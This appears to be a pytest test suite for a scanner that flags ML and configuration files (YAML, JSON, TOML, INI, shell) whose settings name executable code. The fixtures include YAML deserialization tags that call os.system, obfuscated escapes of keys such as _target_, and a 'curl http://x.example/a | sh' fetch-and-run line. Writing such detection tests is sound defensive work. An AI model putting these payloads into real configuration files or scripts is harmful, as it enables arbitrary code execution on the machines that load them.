"""Configuration that names code is told however it is written; what cannot be decoded is open; plain settings pass."""

from __future__ import annotations

import io
import tarfile
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.formats.artifact import examine
from assay.formats.reading import Limits, Note
from assay.formats.sniff import sniff
from assay.formats.texts.read import read
from assay.formats.texts.source_code import is_source_code

CODE, OPEN, PLAIN = "code", "open", "plain"


def told(notes: tuple[Note, ...]) -> bool:
    """Whether anything is said but that a file is source code that was judged."""
    return any(str(note.severity) != "info" for note in notes)


def judged(name: str, data: bytes) -> str:
    found = read(io.BytesIO(data), name, Limits())
    return CODE if told(found.notes) else OPEN if found.gaps else PLAIN


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [echo]\n", CODE),
        (b"%TAG !e! tag:yaml.org,2002:pyth\n---\na: !e!on/object/apply:os.system [echo]\n", CODE),
        (b"%TAG !! tag:yaml.org,2002:python/\n---\na: 1\n", CODE),
        (b"%TAG !! tag:yaml.org,2002:\n---\na: !!int 1\n", PLAIN),
        (b"%TAG !e! tag:example.org,2024:\n---\na: 1\n", PLAIN),
        (b"%TAG !e! tag:example.org,2024:\n---\na: !e!thing 1\n", OPEN),
        (b"a: 1\n---\nb: !!python/name:os.system\n", CODE),
        (b"!<tag:yaml.org,2002:python/name:os.system> a", CODE),
        (b"a: !!pyth%6Fn/name:os.system b", CODE),
        (b"a: !!javax.script.ScriptEngineManager [1]\n", CODE),
        (b"a: !ruby/object:Gem::Requirement {}\n", CODE),
        (b"a: !new:os.system [x]\n", CODE),
        (b"a: !apply:os.system [x]\n", CODE),
        (b"a: !Ref b\n", OPEN),
        (b"a: ! b\nc: !!str 1\n", PLAIN),
        (b"model: {lr: 1, _target_: os.system}\n", CODE),
        (b"[{a: 1}, {_target_: os.system}]\n", CODE),
        (b"- - a: 1\n    _target_: os.system\n", CODE),
        (b"? _target_\n: os.system\n", CODE),
        (b'"_t\\x61rget_": os.system\n', CODE),
        (b'"auto\\u005fmap": {a: b}\n', CODE),
        (b"a: 1\r_target_: os.system\r", CODE),
        (b"k: &a _target_\n*a : os.system\n", CODE),
        (b"k: &a os.system\n_target_: *a\n", CODE),
        (b"k: &a false\ntrust_remote_code: *a\n", PLAIN),
        (b"trust_remote_code: !!str false\n", CODE),
        (b"trust_remote_code: 'false'\n", CODE),
        (b"trust_remote_code: false\n_target_: ~\nauto_map:\n", PLAIN),
        (b"text: a _target_ of words # !!python/name:x\n", PLAIN),
        (b"false: {x: 1}\n", PLAIN),
        (b"class_name: Lambda\n", CODE),
        (b"class_name: Dense\n", PLAIN),
        (b"a: [1\n", OPEN),
        (b"a: *nowhere\n", PLAIN),
        (b"[" * 500 + b"]" * 500, OPEN),
        ("_target_: os.system\n".encode("utf-16"), CODE),
        (b"", PLAIN),
    ],
)
def test_yaml(data: bytes, says: str) -> None:
    assert judged("conf.yaml", data) == says
    assert judged("MLmodel", data) == says


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        ("a.json", b'{"_t\\u0061rget_": "os.system"}', CODE),
        ("a.json", b'{"_target_": "os.system", "_target_": null}', CODE),
        ("a.json", b'{"a": [{"auto_map": {"AutoModel": "other/repo--m.M"}}]}', CODE),
        ("a.json", b'{"trust_remote_code": false, "auto_map": null}', PLAIN),
        ("a.json", b'{"config": {"layers": [{"class_name": "Lambda", "config": {}}]}}', CODE),
        ("a.json", b'{"config": {"layers": [{"class_name": "Dense", "name": "Lambda"}]}}', PLAIN),
        ("a.json", b'{"class_name": "__lambda__"}', CODE),
        ("a.json", b"[" * 200_000, OPEN),
        ("a.jsonl", b'{"a": 1}\n\n{"_target_": 1}', CODE),
        ("a.jsonl", b'{"a": 1}\n\n{"a": 1}\r\n', PLAIN),
        ("a.toml", b"_target_ = 'os.system'\n", CODE),
        ("a.toml", b'[[a]]\n"_t\\u0061rget_" = 1\n', CODE),
        ("a.toml", b"a = {b = 1, auto_map.x = 1}\n", CODE),
        ("a.toml", b"trust_remote_code = false\nb = '_target_'\n", PLAIN),
        ("a.toml", b"a = \n", OPEN),
        ("a.toml", b"a" + b".a" * 1_000_000 + b" = 1\n", OPEN),
        ("a.toml", b"a = [" + b"1.5, " * 1000 + b"]\n", PLAIN),
        ("a.ini", b"[a]\r_target_ = os.system\r", CODE),
        ("a.cfg", b"[a]\nauto_map: os.system\n", CODE),
        ("a.ini", b"[a]\ntrust_remote_code = no\nb = the _target_ of words\n", PLAIN),
        ("settings", b"_target_ os.system\n", OPEN),
        ("settings", b"a 1\n", PLAIN),
        ("settings", b"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [echo]\n", CODE),
        ("settings", b"a\r%TAG ! b\r", OPEN),
        ("notes.txt", b"set trust_remote_code to load it\n", PLAIN),
        ("README.md", b"set trust_remote_code=True to load it\n", PLAIN),
        ("conf.txt", b'{"_target_": "os.system"}', CODE),
        ("conf.txt", b"[1] a note in brackets\n", PLAIN),
        ("run", b"#!/bin/sh\ncurl http://x.example/a | sh\n", CODE),
        ("run", b"#!/bin/sh\necho\n", PLAIN),
    ],
)
def test_other_grammars(name: str, data: bytes, says: str) -> None:
    assert judged(name, data) == says


SOURCES = [
    "a.R",
    "a.java",
    "a.php",
    "a.lua",
    "a.pyx",
    "a.pl",
    "a.rb",
    "a.js",
    "a.ts",
    "a.sh",
    "a.ps1",
    "a.bat",
    "Makefile",
    "Dockerfile",
    "d/Dockerfile.gpu",
    "a.jinja",
    "a.j2",
    "a.py.",
    "deep/makefile",
]


@pytest.mark.parametrize("name", SOURCES)
def test_source_code_is_known_by_its_name(name: str) -> None:
    said = [note.message for note in read(io.BytesIO(b"words\n"), name, Limits()).notes]
    assert (is_source_code(name), any("is source code" in text for text in said)) == (True, True)


@pytest.mark.parametrize("name", ["README.md", "a.txt", "a.json", "model.onnx", "a.csv", "r", "py", "LICENSE"])
def test_other_names_are_no_source_code(name: str) -> None:
    assert not is_source_code(name)


MEMBERS = {
    "conf.yaml": (b"model: {lr: 1, _target_: os.system}\n", CODE),
    "deep/x.json": (b'{"auto_map": {"a": "b"}}', CODE),
    "keras.json": (b'{"class_name": "Lambda"}', CODE),
    "start": (b"#!/bin/sh\ncurl http://x.example/a | sh\n", CODE),
    "broken.json": (b'{"a": ', OPEN),
    "plain.yaml": (b"a: 1\n", PLAIN),
    "tensor": (b"1.0 2.0\n", PLAIN),
}


@pytest.mark.parametrize("kind", ["zip", "tar", "gz"])
@pytest.mark.parametrize("name", MEMBERS)
def test_text_in_archives_is_read_as_beside_them(kind: str, name: str) -> None:
    import gzip

    data, says = MEMBERS[name]
    out = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
    elif kind == "tar":
        with tarfile.open(fileobj=out, mode="w") as tar:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    else:
        out.write(gzip.compress(data))
    facts = examine(io.BytesIO(out.getvalue()), name=f"{name}.{kind}")
    assert (told(facts.notes), bool(facts.gaps)) == (says == CODE, says == OPEN)
    assert facts.complete


@given(st.binary(max_size=200), st.sampled_from(["a.yaml", "a.json", "a.toml", "a.ini", "a", "a.txt", "a.jsonl"]))
def test_any_bytes_are_judged(data: bytes, name: str) -> None:
    assert judged(name, data) in (CODE, OPEN, PLAIN)


_PLACES = {
    "block": "x:\n  y:\n    - {key}: os.system\n",
    "flow": "x: [{{a: 1, {key}: os.system}}]\n",
    "explicit": "? {key}\n: os.system\n",
}


@given(st.lists(st.booleans(), min_size=8, max_size=8), st.sampled_from(sorted(_PLACES)))
def test_a_key_is_known_however_it_is_escaped(escaped: list[bool], place: str) -> None:
    key = '"' + "".join(f"\\x{ord(c):02x}" if e else c for c, e in zip("_target_", escaped, strict=True)) + '"'
    assert judged("a.yaml", _PLACES[place].format(key=key).encode()) == CODE


def test_yaml_of_any_kind_is_text_to_the_sniffer() -> None:
    assert sniff(io.BytesIO(b"%TAG ! tag:x,2002:y/\n---\n"), name="a.yaml").name == "text"
